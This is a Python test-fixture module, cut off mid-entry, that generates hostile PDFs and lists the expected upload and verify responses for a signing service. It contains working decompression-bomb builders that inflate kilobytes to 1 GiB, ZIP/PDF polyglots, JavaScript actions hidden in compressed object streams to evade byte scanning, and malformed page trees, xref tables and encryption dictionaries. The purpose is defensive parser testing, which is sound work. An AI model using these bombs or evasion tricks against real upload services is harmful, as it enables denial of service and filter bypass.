"""The corpus of hostile PDFs of issue 10, made on demand, and what upload and verify must answer for each.

Each entry is built from bytes (big ones by concatenation: the whole corpus takes a few
seconds), so no writer can refuse to make it or quietly repair it. The answers follow the
contract of issue 10: an upload answers 201 or a 422 problem whose `code` says which kind of
refusal (`invalid_document`, `pdf_active_content`, `pdf_polyglot`, `pdf_too_complex`); a
verification answers 200 with a report, or 422 for a file it cannot read safely. Where the
contract leaves a choice, an entry lists every answer that keeps it, and says why.

The tests run with the limits in `TEST_LIMITS`; the entries that probe a limit are sized
from them.
"""

from __future__ import annotations

import hashlib
import io
import zipfile
import zlib
from collections.abc import Callable, Iterable, Mapping
from dataclasses import dataclass
from functools import partial

from pyhanko.pdf_utils import generic
from pyhanko.pdf_utils.incremental_writer import IncrementalPdfFileWriter

from tests.pdf_samples import make_encrypted_pdf, make_pdf, make_pdf_without_pages

MAX_PAGES = 2000
MAX_OBJECTS = 20_000
PARSE_SECONDS = 5
TEST_LIMITS = {
    "UNDERSIGN_PDF_MAX_PAGES": str(MAX_PAGES),
    "UNDERSIGN_PDF_MAX_OBJECTS": str(MAX_OBJECTS),
    "UNDERSIGN_PDF_PARSE_SECONDS": str(PARSE_SECONDS),
}

MiB = 1024 * 1024
GiB = 1024 * MiB


# -- answers ------------------------------------------------------------------------------


@dataclass(frozen=True, slots=True)
class Answer:
    status: int
    code: str | None = None

    def __str__(self) -> str:
        return f"{self.status} {self.code}" if self.code else str(self.status)


# What a refusal for outrunning the parse's time or memory limit says.
_OUTRUN = ("longer than", "more memory", "too complex")

ACCEPTED = Answer(201)  # upload: the document is stored
REPORTED = Answer(200)  # verify: a report (here: no signatures, not valid)
INVALID = Answer(422, "invalid_document")
ACTIVE = Answer(422, "pdf_active_content")
POLYGLOT = Answer(422, "pdf_polyglot")
TOO_COMPLEX = Answer(422, "pdf_too_complex")


@dataclass(frozen=True, slots=True, kw_only=True)
class HostilePdf:
    id: str
    what: str
    make: Callable[[], bytes]
    upload: tuple[Answer, ...]
    verify: tuple[Answer, ...]
    # A refusal's detail names the problem: it holds one of these (case-insensitive).
    words: tuple[str, ...] = ()
    pages: int | None = None  # an accepted document's page count

    def pdf(self) -> bytes:
        return self.make()

    @property
    def control(self) -> bool:
        """An ordinary PDF that must be accepted."""
        return self.upload == (ACCEPTED,)


def _entry(id: str, what: str, make: Callable[[], bytes], upload: Answer | tuple[Answer, ...],
           verify: Answer | tuple[Answer, ...] | None = None, words: Iterable[str] = (),
           pages: int | None = None) -> HostilePdf:  # fmt: skip
    """An entry; verify answers like upload (REPORTED where upload accepts) unless told otherwise."""
    upload = upload if isinstance(upload, tuple) else (upload,)
    if verify is None:
        verify = tuple(REPORTED if answer == ACCEPTED else answer for answer in upload)
    verify = verify if isinstance(verify, tuple) else (verify,)
    if TOO_COMPLEX in upload + verify:
        words = (*words, *_OUTRUN)  # any too-complex file may first outrun the time or memory limit
    return HostilePdf(id=id, what=what, make=make, upload=upload, verify=verify, words=tuple(words), pages=pages)


# -- raw PDF writing ----------------------------------------------------------------------

HEADER = b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"
EOF = b"%%EOF\n"
TEXT = b"BT /F1 24 Tf 72 742 Td (A hostile corpus entry) Tj ET"


def stream(data: bytes, entries: bytes = b"") -> bytes:
    return b"<< /Length %d %s >>\nstream\n%s\nendstream" % (len(data), entries, data)


def classic(objects: Mapping[int, bytes], *, trailer: bytes = b"/Root 1 0 R",
            misplace: Callable[[int, int], int] | None = None) -> bytes:
    """A PDF with a cross-reference table; `objects` maps 1..N to what goes between obj and endobj.

    `misplace(number, offset)` gives the offset the table states instead of the true one.
    """
    assert sorted(objects) == list(range(1, len(objects) + 1)), "objects are numbered 1..N"
    parts, offsets, at = [HEADER], [], len(HEADER)
    for number in range(1, len(objects) + 1):
        chunk = b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
        offsets.append(misplace(number, at) if misplace else at)
        parts.append(chunk)
        at += len(chunk)
    parts.append(b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1))
    parts.append(b"".join(b"%010d 00000 n \n" % offset for offset in offsets))
    parts.append(b"trailer\n<< /Size %d %s >>\nstartxref\n%d\n%s" % (len(objects) + 1, trailer, at, EOF))
    return b"".join(parts)


def packed(objects: Mapping[int, bytes], in_object_stream: Iterable[int], *,
           object_stream_filter: Callable[[bytes], tuple[bytes, bytes]] | None = None) -> bytes:  # fmt: skip
    """A PDF 1.5 file: the objects `in_object_stream` are packed into an object stream (Flate,
    or what `object_stream_filter(data)` gives as data and /Filter), and a cross-reference
    stream indexes everything."""
    inside = sorted(in_object_stream)
    outside = [n for n in sorted(objects) if n not in inside]
    stream_number, xref_number = len(objects) + 1, len(objects) + 2
    bodies = [objects[n] + b"\n" for n in inside]
    index, at = [], 0
    for number, body in zip(inside, bodies, strict=True):
        index.append(b"%d %d" % (number, at))
        at += len(body)
    head = b" ".join(index) + b"\n"
    decoded = head + b"".join(bodies)
    encode = object_stream_filter or (lambda data: (zlib.compress(data), b"/FlateDecode"))
    encoded, filters = encode(decoded)
    object_stream = stream(
        encoded, b"/Type /ObjStm /N %d /First %d /Filter %s" % (len(inside), len(head), filters)
    )
    parts, at, rows = [HEADER], len(HEADER), {0: (0, 0, 65535)}
    for number, body in [*((n, objects[n]) for n in outside), (stream_number, object_stream)]:
        chunk = b"%d 0 obj\n%s\nendobj\n" % (number, body)
        rows[number] = (1, at, 0)
        parts.append(chunk)
        at += len(chunk)
    for position, number in enumerate(inside):
        rows[number] = (2, stream_number, position)
    rows[xref_number] = (1, at, 0)
    table = b"".join(
        kind.to_bytes(1, "big") + field.to_bytes(4, "big") + extra.to_bytes(2, "big")
        for kind, field, extra in (rows[n] for n in range(xref_number + 1))
    )
    xref = stream(table, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R" % (xref_number + 1))
    parts.append(b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%s" % (xref_number, xref, at, EOF))
    return b"".join(parts)


def document(*, catalog: bytes = b"", page: bytes = b"", media_box: bytes = b"[0 0 595 842]",
             more: Mapping[int, bytes] | None = None) -> dict[int, bytes]:  # fmt: skip
    """A one-page document's objects (1 catalog, 2 page tree, 3 page, 4 contents, 5 font) and `more` from 6 on."""
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R %s >>" % catalog,
        2: b"<< /Type /Pages /Kids [3 0 R] /Count 1 >>",
        3: b"<< /Type /Page /Parent 2 0 R /MediaBox %s /Contents 4 0 R "
        b"/Resources << /Font << /F1 5 0 R >> >> %s >>" % (media_box, page),
        4: stream(TEXT),
        5: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    objects.update(more or {})
    return objects


def plain(**parts: bytes) -> bytes:
    return classic(document(**parts))


def many_pages(pages: int, *, count: int | None = None) -> bytes:
    """`pages` pages, each with contents of its own, under one flat /Kids array whose /Count says `count`."""
    first_page = 4
    objects = {
        1: b"<< /Type /Catalog /Pages 2 0 R >>",
        2: b"<< /Type /Pages /Count %d /MediaBox [0 0 612 792] /Resources << /Font << /F1 3 0 R >> >> /Kids [%s] >>"
        % (pages if count is None else count, b" ".join(b"%d 0 R" % (first_page + 2 * i) for i in range(pages))),
        3: b"<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>",
    }
    for i in range(pages):
        objects[first_page + 2 * i] = b"<< /Type /Page /Parent 2 0 R /Contents %d 0 R >>" % (first_page + 2 * i + 1)
        objects[first_page + 2 * i + 1] = stream(b"BT /F1 9 Tf 72 700 Td (%d) Tj ET" % (i + 1))
    return classic(objects)


def zip_archive() -> bytes:
    """A real ZIP archive (a few hundred bytes) that zip tools open."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        entry = zipfile.ZipInfo("payload/readme.txt", date_time=(2026, 1, 1, 0, 0, 0))
        archive.writestr(entry, "This file is a ZIP archive as well as a PDF.\n" * 4, zipfile.ZIP_DEFLATED)
    return out.getvalue()


def deflate_bomb(size: int, *, prefix: bytes = b"", fill: bytes = b" ") -> bytes:
    """A zlib stream that inflates to `prefix` then `fill` up to `size` bytes, at deflate's best
    ratio (~1:1000), made in milliseconds: after a full flush the compressor starts afresh, so
    the compressed 1 MiB block repeats byte for byte."""
    chunk = fill * MiB
    assert (size - len(prefix)) % len(chunk) == 0
    compressor = zlib.compressobj(9)
    head = compressor.compress(prefix) + compressor.flush(zlib.Z_FULL_FLUSH)
    block = compressor.compress(chunk) + compressor.flush(zlib.Z_FULL_FLUSH)
    checksum = _adler32_of_fill(zlib.adler32(prefix), fill, size - len(prefix))
    # An empty final block, then the zlib trailer: the Adler-32 of everything inflated.
    return head + block * ((size - len(prefix)) // len(chunk)) + b"\x03\x00" + checksum.to_bytes(4, "big")


def _adler32_of_fill(checksum: int, fill: bytes, length: int) -> int:
    """zlib.adler32(fill * (length // len(fill)), checksum) for a one-byte fill, without making the bytes."""
    assert len(fill) == 1
    modulus, byte = 65521, fill[0]
    a, b = checksum & 0xFFFF, checksum >> 16
    b = (b + length * a + byte * length * (length + 1) // 2) % modulus
    a = (a + length * byte) % modulus
    return (b << 16) | a


def stacked_bomb(size: int, *, prefix: bytes = b"", fill: bytes = b" ") -> bytes:
    """Two Flate layers: `size` bytes out of a few kilobytes in."""
    return zlib.compress(deflate_bomb(size, prefix=prefix, fill=fill), 9)


# -- the entries' makers ------------------------------------------------------------------


def truncated() -> bytes:
    pdf = make_pdf(pages=2)
    return pdf[: len(pdf) // 2]


def without_startxref() -> bytes:
    pdf = plain()
    start = pdf.rindex(b"startxref")
    return pdf[:start] + EOF


def startxref_beyond_the_end() -> bytes:
    pdf = plain()
    start = pdf.rindex(b"startxref")
    return pdf[:start] + b"startxref\n99999999\n" + EOF


def xref_prev_loop() -> bytes:
    """The trailer's /Prev names the table it belongs to: a reader following /Prev goes round."""
    objects = document()
    at = len(classic(objects).split(b"xref\n0 ")[0])
    return classic(objects, trailer=b"/Root 1 0 R /Prev %d" % at)


def encrypt_is(dictionary: bytes) -> bytes:
    """A plain document whose trailer's /Encrypt is 6 0 R, and 6 0 R is `dictionary`."""
    return classic(document(more={6: dictionary}), trailer=b"/Root 1 0 R /Encrypt 6 0 R")


def encrypted_with_password() -> bytes:
    return make_encrypted_pdf(user_password="secret")


def with_zip_after() -> bytes:
    return make_pdf() + zip_archive()


def with_zip_before() -> bytes:
    return zip_archive() + make_pdf()


def zip_inside_a_stream() -> bytes:
    """A ZIP archive as the PDF's last stream, its end record's comment length covering the rest of
    the file: nothing before %PDF-, nothing after %%EOF, and zip tools open it all the same."""
    archive = zip_archive()
    assert archive[-2:] == b"\x00\x00"  # the end record's comment length, last in the archive
    objects = document(more={6: stream(archive, b"/Type /EmbeddedFile")})
    pdf = classic(objects)
    tail = len(pdf) - (pdf.index(archive) + len(archive))
    return classic(objects | {6: stream(archive[:-2] + tail.to_bytes(2, "little"), b"/Type /EmbeddedFile")})


def huge_comment_after_eof() -> bytes:
    """A whole PDF, then one 48 MB comment line with no end of line: the issue's 48 MB last line."""
    pdf = make_pdf()
    return pdf + b"%" + b"A" * (48 * MiB - len(pdf) - 1)


def huge_comment_instead_of_eof() -> bytes:
    """The last line, where %%EOF belongs, is one 48 MB comment: there is no %%EOF at all."""
    pdf = make_pdf()[: -len(EOF)]
    return pdf + b"%" + b"A" * (48 * MiB - len(pdf) - 1)


def huge_comment_before_eof() -> bytes:
    """startxref, its offset, a 48 MB comment line, then %%EOF: the line before %%EOF is not the offset."""
    pdf = make_pdf()[: -len(EOF)]
    return pdf + b"%" + b"A" * (48 * MiB - len(pdf) - 2 - len(EOF)) + b"\n" + EOF


def nested_arrays(depth: int) -> bytes:
    return b"[" * depth + b"]" * depth


def nested_dicts(depth: int) -> bytes:
    return b"<< /A " * depth + b"1" + b" >>" * depth


def deep_page_tree(depth: int) -> bytes:
    """A chain of `depth` /Pages nodes, each the only kid of the one above, with one page at the bottom."""
    objects = {1: b"<< /Type /Catalog /Pages 2 0 R >>"}
    for level in range(depth):
        number, kid = 2 + level, 3 + level
        parent = b"/Parent %d 0 R " % (number - 1) if level else b""
        objects[number] = b"<< /Type /Pages %s/Kids [%d 0 R] /Count 1 >>" % (parent, kid)
    page = 2 + depth
    objects[page] = b"<< /Type /Page /Parent %d 0 R /MediaBox [0 0 595 842] /Contents %d 0 R >>" % (page - 1, page + 1)
    objects[page + 1] = stream(TEXT)
    return classic(objects)


def page_tree_cycle() -> bytes:
    """The root's kid is a /Pages node whose /Kids names the root again (and the real page)."""
    return classic(document(more={6: b"<< /Type /Pages /Parent 2 0 R /Kids [3 0 R 2 0 R] /Count 2 >>"})
                   | {2: b"<< /Type /Pages /Kids [6 0 R] /Count 2 >>"})  # fmt: skip


def page_tree_self_kid() -> bytes:
    return classic(document() | {2: b"<< /Type /Pages /Kids [3 0 R 2 0 R] /Count 2 >>"})


def kids_repeat_a_page() -> bytes:
    """The same page object twice in /Kids: a page tree is a tree, and a page has one parent."""
    return classic(document() | {2: b"<< /Type /Pages /Kids [3 0 R 3 0 R] /Count 2 >>"})


def kids_not_an_array() -> bytes:
    return classic(document() | {2: b"<< /Type /Pages /Kids 3 /Count 1 >>"})


def count_says_more() -> bytes:
    return classic(document() | {2: b"<< /Type /Pages /Kids [3 0 R] /Count 1000000 >>"})


def reference_cycle() -> bytes:
    """The page's /MediaBox is 6 0 R, which is 7 0 R, which is 6 0 R."""
    return plain(media_box=b"6 0 R", more={6: b"7 0 R", 7: b"6 0 R"})


def catalog_not_a_dictionary() -> bytes:
    return classic(document() | {1: b"42"})


def without_root() -> bytes:
    return classic(document(), trailer=b"/Info << /Title (no catalog) >>")


def zero_size_second_page() -> bytes:
    objects = document(more={6: b"<< /Type /Page /Parent 2 0 R /MediaBox [0 0 0 0] /Contents 4 0 R >>"})
    objects[2] = b"<< /Type /Pages /Kids [3 0 R 6 0 R] /Count 2 >>"
    return classic(objects)


def broken_offsets() -> bytes:
    """Every offset in the table points 7 bytes past its object."""
    return classic(document(), misplace=lambda number, at: at + 7)


def broken_offset_of_an_unread_object() -> bytes:
    """The font's offset points into the middle of the page object: only a reader that reads every object notices."""
    return classic(document(), misplace=lambda number, at: at - 40 if number == 5 else at)


def many_objects() -> bytes:
    """A one-page document followed by 2.5 × MAX_OBJECTS tiny objects that nothing uses."""
    objects = document()
    objects.update({n: b"null" for n in range(6, 6 + MAX_OBJECTS * 5 // 2)})
    return classic(objects)


def with_xref_stream(objects: Mapping[int, bytes], size: int, encode: Callable[[bytes], tuple[bytes, bytes]]) -> bytes:
    """`objects` then a cross-reference stream declaring `size` entries; `encode(table)` gives the
    stream's data and /Filter from the table of the entries that exist."""
    body = classic(objects).split(b"xref\n0 ")[0]
    offsets = [body.index(b"\n%d 0 obj\n" % n) + 1 for n in sorted(objects)]
    rows = [(0, 0, 65535), *((1, offset, 0) for offset in offsets), (1, len(body), 0)]
    table = b"".join(k.to_bytes(1, "big") + f.to_bytes(4, "big") + g.to_bytes(2, "big") for k, f, g in rows)
    data, filters = encode(table)
    xref = stream(data, b"/Type /XRef /Size %d /W [1 4 2] /Root 1 0 R /Filter %s" % (size, filters))
    return body + b"%d 0 obj\n%s\nendobj\nstartxref\n%d\n%s" % (len(objects) + 1, xref, len(body), EOF)


def xref_stream_claiming_many_objects() -> bytes:
    """A cross-reference stream of 1,000,000 entries (7 MB decoded, 7 kB stored): a parser that
    builds its table before counting makes a million-entry table."""
    entries = 1_000_000
    free = b"\x00\x00\x00\x00\x00\xff\xff"  # type 0 (free), next free 0, generation 65535

    def encode(table: bytes) -> tuple[bytes, bytes]:
        return zlib.compress(table + free * (entries - len(table) // len(free)), 9), b"/FlateDecode"

    return with_xref_stream(document(), entries, encode)


def object_stream_bomb(*, stacked: bool) -> bytes:
    """The page tree lives in an object stream whose data ends in 1 GiB of spaces."""
    def encode(data: bytes) -> tuple[bytes, bytes]:
        # deflate_bomb wants the filler to end on a MiB: the object stream's own data goes first.
        if stacked:
            return stacked_bomb(GiB + len(data), prefix=data), b"[/FlateDecode /FlateDecode]"
        return deflate_bomb(GiB + len(data), prefix=data), b"/FlateDecode"

    return packed(document(), [2, 3], object_stream_filter=encode)


def xref_stream_bomb() -> bytes:
    """A cross-reference stream of 7 entries whose Flate data goes on for 1 GiB of zeros."""
    def encode(table: bytes) -> tuple[bytes, bytes]:
        return deflate_bomb(GiB + len(table), prefix=table, fill=b"\x00"), b"/FlateDecode"

    return with_xref_stream(document(), 7, encode)


def content_bomb(*, stacked: bool) -> bytes:
    """The page's contents: its text, then 1 GiB of spaces, in Flate (twice, if `stacked`)."""
    prefix = TEXT + b"\n"
    if stacked:
        data, filters = stacked_bomb(GiB + len(prefix), prefix=prefix), b"[/FlateDecode /FlateDecode]"
    else:
        data, filters = deflate_bomb(GiB + len(prefix), prefix=prefix), b"/FlateDecode"
    return classic(document() | {4: stream(data, b"/Filter " + filters)})


def zip_signature_in_an_image() -> bytes:
    """An image stream whose bytes happen to hold a ZIP end-of-central-directory signature (PK 5 6)
    and 18 bytes after it: a 4-byte pattern any binary stream may contain. No ZIP tool opens
    the file (there is no central directory), though zipfile.is_zipfile() says yes."""
    noise = hashlib.sha512(b"image").digest() * 16
    data = noise + b"PK\x05\x06" + noise[:40]
    assert b"endstream" not in data and b"%%EOF" not in data
    image = b"/Type /XObject /Subtype /Image /Width 8 /Height 8 /BitsPerComponent 8 /ColorSpace /DeviceGray"
    return plain(more={6: stream(data, image + b" /Filter /DCTDecode")})


def incremental_update() -> bytes:
    """make_pdf() with an incremental update (a new /Info): two %%EOF markers, both legitimate."""
    writer = IncrementalPdfFileWriter(io.BytesIO(make_pdf()))
    info = writer.add_object(generic.DictionaryObject({generic.pdf_name("/Title"): generic.TextStringObject("Lease")}))
    writer.set_info(info)
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def js(code: bytes = b"app.alert('hostile')") -> bytes:
    return b"<< /S /JavaScript /JS (%s) >>" % code


LINK = b"/Type /Annot /Subtype /Link /Rect [72 700 300 760] /Border [0 0 0]"


def annotated(action: bytes) -> bytes:
    return plain(page=b"/Annots [6 0 R]", more={6: b"<< %s /A %s >>" % (LINK, action)})


def js_in_an_object_stream() -> bytes:
    """/OpenAction 6 0 R, and 6 0 R (a JavaScript action) is packed in a compressed object stream:
    the bytes of the file never spell /JavaScript."""
    return packed(document(catalog=b"/OpenAction 6 0 R", more={6: js()}), [6])


def js_form_field_keystroke() -> bytes:
    widget = (b"<< /Type /Annot /Subtype /Widget /FT /Tx /T (amount) /Rect [72 600 300 630] /P 3 0 R "
              b"/AA << /K %s >> >>" % js(b"AFNumber_Keystroke(2, 0, 0, 0, '', true)"))  # fmt: skip
    return plain(catalog=b"/AcroForm << /Fields [6 0 R] >>", page=b"/Annots [6 0 R]", more={6: widget})


# -- the corpus ---------------------------------------------------------------------------

_DAMAGED = ("damaged", "truncated", "cannot be read", "not a pdf", "broken", "invalid", "malformed")
_ENCRYPTED = ("encrypt",)
_PAGE_SIZE = ("size", "mediabox", "points")
_BOMB = ("compress", "decod", "inflat", "expand", "bomb")
_NESTING = ("nest", "deep", "depth")

CORPUS: tuple[HostilePdf, ...] = (
    # -- not a PDF, or damaged ----------------------------------------------------------------
    _entry("empty", "zero bytes", lambda: b"", INVALID, words=("empty",)),
    _entry("not-a-pdf", "a GIF header and text", lambda: b"GIF89a\x01\x00\x01\x00 not a pdf at all", INVALID,
           words=("not a pdf",)),
    _entry("truncated", "a two-page PDF cut in half: no cross-reference stream, no trailer, no %%EOF", truncated,
           INVALID, words=_DAMAGED),
    _entry("missing-startxref", "ends trailer, %%EOF with no startxref line between", without_startxref, INVALID,
           words=_DAMAGED),
    _entry("startxref-beyond-end", "startxref names offset 99,999,999 of a 1 kB file", startxref_beyond_the_end,
           INVALID, words=_DAMAGED),
    _entry("broken-xref-offsets", "every offset in the xref table points 7 bytes past its object", broken_offsets,
           INVALID, words=_DAMAGED),
    _entry("broken-xref-unread-object", "the font's xref offset points into the page object; nothing but the font "
           "is misplaced, and the page geometry never reads the font", broken_offset_of_an_unread_object, INVALID,
           words=_DAMAGED),
    _entry("xref-prev-loop", "the trailer's /Prev points at its own xref table", xref_prev_loop, INVALID,
           words=_DAMAGED),
    _entry("catalog-not-a-dictionary", "the /Root object is the number 42", catalog_not_a_dictionary, INVALID,
           words=_DAMAGED),
    _entry("no-root", "a trailer without /Root", without_root, INVALID, words=_DAMAGED),
    _entry("reference-cycle", "the page's /MediaBox is 6 0 R, 6 0 R is 7 0 R, 7 0 R is 6 0 R", reference_cycle,
           # A damaged file; pyHanko follows the references until Python's recursion limit,
           # so an inspector that bounds nesting may well call it too complex.
           (INVALID, TOO_COMPLEX), words=(*_DAMAGED, *_NESTING, "cycle", "loop")),
    _entry("no-pages", "a well-formed PDF whose page tree is empty", make_pdf_without_pages, INVALID,
           # Verification reports on signatures: an empty page tree need not stop it.
           verify=(REPORTED, INVALID), words=("no pages",)),
    # -- encryption ----------------------------------------------------------------------------
    _entry("encrypt-indirect-without-v", "trailer /Encrypt 6 0 R, 6 0 R is << /Filter /Standard >> (pyHanko: "
           "KeyError '/V', a 500 before issue 10)", partial(encrypt_is, b"<< /Filter /Standard >>"), INVALID,
           words=_ENCRYPTED),
    _entry("encrypt-indirect-number", "trailer /Encrypt 6 0 R, 6 0 R is the number 5", partial(encrypt_is, b"5"),
           INVALID, words=_ENCRYPTED),
    _entry("encrypt-impossible-revision", "a Standard handler of /V 9 /R 9 with 1-byte /O and /U",
           partial(encrypt_is, b"<< /Filter /Standard /V 9 /R 9 /O <00> /U <00> /P -4 >>"), INVALID, words=_ENCRYPTED),
    _entry("encrypt-number", "trailer /Encrypt 5 (pyHanko: 'Encryption settings must be an indirect reference', "
           "a 500 before issue 10)", partial(classic, document(), trailer=b"/Root 1 0 R /Encrypt 5"), INVALID,
           words=_ENCRYPTED),
    _entry("encrypt-string", "trailer /Encrypt (x)", partial(classic, document(), trailer=b"/Root 1 0 R /Encrypt (x)"),
           INVALID, words=_ENCRYPTED),
    _entry("encrypt-without-v", "trailer /Encrypt << /Filter /Standard >>: no /V, /R, /O or /U",
           partial(classic, document(), trailer=b"/Root 1 0 R /Encrypt << /Filter /Standard >>"), INVALID,
           words=_ENCRYPTED),
    _entry("encrypt-unknown-handler", "trailer /Encrypt << /Filter /NoSuchHandler /V 2 /R 3 /Length 128 >>",
           partial(classic, document(), trailer=b"/Root 1 0 R /Encrypt << /Filter /NoSuchHandler /V 2 /R 3 "
                   b"/Length 128 >>"), INVALID, words=_ENCRYPTED),
    _entry("encrypt-dangling-reference", "trailer /Encrypt 99 0 R, an object that does not exist",
           partial(classic, document(), trailer=b"/Root 1 0 R /Encrypt 99 0 R"), INVALID,
           words=(*_ENCRYPTED, *_DAMAGED)),
    _entry("encrypted-empty-password", "AES-256 with an empty user password (opens without asking)",
           make_encrypted_pdf, INVALID,
           # The contract says encrypted → 422 for verify too; today's verifier deliberately
           # opens files whose user password is empty and reports on their signatures.
           verify=(INVALID, REPORTED), words=_ENCRYPTED),
    _entry("encrypted-password", "AES-256 with a user password", encrypted_with_password, INVALID, words=_ENCRYPTED),
    # -- page geometry -------------------------------------------------------------------------
    _entry("page-zero-size", "one page, /MediaBox [0 0 0 0]", partial(plain, media_box=b"[0 0 0 0]"), INVALID,
           verify=(REPORTED, INVALID), words=_PAGE_SIZE),
    _entry("page-zero-width", "one page, /MediaBox [0 0 0 842]", partial(plain, media_box=b"[0 0 0 842]"), INVALID,
           verify=(REPORTED, INVALID), words=_PAGE_SIZE),
    _entry("second-page-zero-size", "page 1 is A4, page 2 is 0 × 0", zero_size_second_page, INVALID,
           verify=(REPORTED, INVALID), words=_PAGE_SIZE),
    _entry("page-negative-size", "one page, /MediaBox [0 0 -595 -842]", partial(plain, media_box=b"[0 0 -595 -842]"),
           # The contract refuses a negative size, but ISO 32000-1 (7.9.5) lets a rectangle be
           # given by any two opposite corners and has readers normalise it: this is a
           # 595 × 842 page to every viewer. Either answer is defensible; a 500 is not.
           (INVALID, ACCEPTED), verify=(REPORTED, INVALID), words=_PAGE_SIZE, pages=1),
    _entry("page-absurd-size", "one page, /MediaBox [0 0 1e9 1e9] written as 1000000000",
           partial(plain, media_box=b"[0 0 1000000000 1000000000]"), INVALID, verify=(REPORTED, INVALID),
           words=_PAGE_SIZE),
    _entry("mediabox-not-numbers", "one page, /MediaBox [/a /b /c /d]", partial(plain, media_box=b"[/a /b /c /d]"),
           INVALID, verify=(REPORTED, INVALID), words=(*_PAGE_SIZE, *_DAMAGED)),
    # -- page tree -----------------------------------------------------------------------------
    _entry("page-tree-cycle", "a /Pages node's /Kids names the root /Pages, its ancestor", page_tree_cycle, INVALID,
           words=(*_DAMAGED, "cycle", "loop")),
    _entry("page-tree-self-kid", "the root /Pages lists itself among its /Kids", page_tree_self_kid, INVALID,
           words=(*_DAMAGED, "cycle", "loop")),
    _entry("kids-repeat-a-page", "/Kids [3 0 R 3 0 R]: one page object twice", kids_repeat_a_page, INVALID,
           words=(*_DAMAGED, "cycle", "twice", "more than once")),
    _entry("kids-not-an-array", "/Kids 3", kids_not_an_array, INVALID, words=_DAMAGED),
    _entry("count-says-more", "one page, but the root's /Count says 1,000,000", count_says_more, (INVALID, TOO_COMPLEX),
           # Either reading is fair: the tree is inconsistent, or /Count alone is over the limit.
           words=(*_DAMAGED, "count", "pages")),
    _entry("count-says-less", f"{MAX_PAGES + 500} pages, but the root's /Count says 1",
           partial(many_pages, MAX_PAGES + 500, count=1), TOO_COMPLEX, words=("pages",)),
    _entry("pages-over-limit", f"{MAX_PAGES + 1} honest pages, one over the limit", partial(many_pages, MAX_PAGES + 1),
           TOO_COMPLEX, words=("pages",)),
    _entry("fifty-thousand-pages", "50,000 pages in ~10 MB (20 s to upload before issue 10)",
           partial(many_pages, 50_000), TOO_COMPLEX, words=("pages", "objects")),
    _entry("deep-page-tree", "a chain of 5,000 /Pages nodes with one page at the bottom", partial(deep_page_tree, 5000),
           TOO_COMPLEX, words=_NESTING),
    # -- nesting and size ----------------------------------------------------------------------
    _entry("nested-arrays-in-catalog", "the catalog holds 20,000 nested arrays",
           lambda: plain(catalog=b"/Deep " + nested_arrays(20_000)), TOO_COMPLEX, words=_NESTING),
    _entry("nested-dicts-in-page", "the page dictionary holds 20,000 nested dictionaries",
           lambda: plain(page=b"/Deep " + nested_dicts(20_000)), TOO_COMPLEX, words=_NESTING),
    _entry("nested-arrays-in-trailer", "the trailer holds 20,000 nested arrays (read before anything else)",
           lambda: classic(document(), trailer=b"/Root 1 0 R /Deep " + nested_arrays(20_000)), TOO_COMPLEX,
           words=_NESTING),
    _entry("many-objects", f"one page and {MAX_OBJECTS * 5 // 2:,} unused objects ({MAX_OBJECTS:,} allowed)",
           many_objects, TOO_COMPLEX, words=("objects",)),
    _entry("xref-stream-million-entries", "a cross-reference stream of 1,000,000 entries in 7 kB",
           xref_stream_claiming_many_objects, TOO_COMPLEX, words=("objects",)),
    # -- decompression bombs -------------------------------------------------------------------
    _entry("object-stream-bomb", "the page tree is in a Flate object stream that inflates to 1 GiB from ~1 MB",
           partial(object_stream_bomb, stacked=False), TOO_COMPLEX, words=_BOMB),
    _entry("object-stream-bomb-stacked", "the same in two Flate layers: 1 GiB from ~3 kB",
           partial(object_stream_bomb, stacked=True), TOO_COMPLEX, words=_BOMB),
    _entry("xref-stream-bomb", "a 6-entry cross-reference stream that inflates to 1 GiB from ~1 MB", xref_stream_bomb,
           TOO_COMPLEX, words=_BOMB),
    # The page contents are never decoded to inspect or sign a PDF, but every signer's
    # viewer decodes them: the platform must not hand out a bomb. Verification renders
    # nothing, so it may report on such a file as well as refuse it.
    _entry("content-stream-bomb", "the page's contents inflate to 1 GiB from ~1 MB (one Flate layer)",
           partial(content_bomb, stacked=False), TOO_COMPLEX, verify=(TOO_COMPLEX, REPORTED), words=_BOMB),
    _entry("content-stream-bomb-stacked", "the page's contents inflate to 1 GiB from ~3 kB (two Flate layers)",
           partial(content_bomb, stacked=True), TOO_COMPLEX, verify=(TOO_COMPLEX, REPORTED), words=_BOMB),
    # -- active content (verification only reports on signatures, so it answers) ---------------
    _entry("js-open-action", "/OpenAction << /S /JavaScript /JS (...) >>",
           lambda: plain(catalog=b"/OpenAction " + js()), ACTIVE, REPORTED, words=("javascript",)),
    _entry("js-names-tree", "/Names << /JavaScript << /Names [(init) 6 0 R] >> >>, 6 0 R a JavaScript action",
           lambda: plain(catalog=b"/Names << /JavaScript << /Names [(init) 6 0 R] >> >>", more={6: js()}),
           ACTIVE, REPORTED, words=("javascript",)),
    _entry("js-link-annotation", "a link annotation whose /A is a JavaScript action", lambda: annotated(js()), ACTIVE,
           REPORTED, words=("javascript",)),
    _entry("js-page-aa", "the page's /AA /O (page opened) runs JavaScript",
           lambda: plain(page=b"/AA << /O %s >>" % js()), ACTIVE, REPORTED, words=("javascript",)),
    _entry("js-catalog-aa", "the catalog's /AA /WC (before closing) runs JavaScript",
           lambda: plain(catalog=b"/AA << /WC %s >>" % js()), ACTIVE, REPORTED, words=("javascript",)),
    _entry("js-form-field-keystroke", "a text field whose /AA /K (keystroke) runs JavaScript", js_form_field_keystroke,
           ACTIVE, REPORTED, words=("javascript",)),
    _entry("js-code-in-stream", "/OpenAction's /JS is a Flate stream (the code is not in the file's bytes)",
           lambda: plain(catalog=b"/OpenAction << /S /JavaScript /JS 6 0 R >>",
                         more={6: stream(zlib.compress(b"app.alert('hostile')"), b"/Filter /FlateDecode")}),
           ACTIVE, REPORTED, words=("javascript",)),
    _entry("js-in-object-stream", "the JavaScript action sits in a compressed object stream: the bytes never spell "
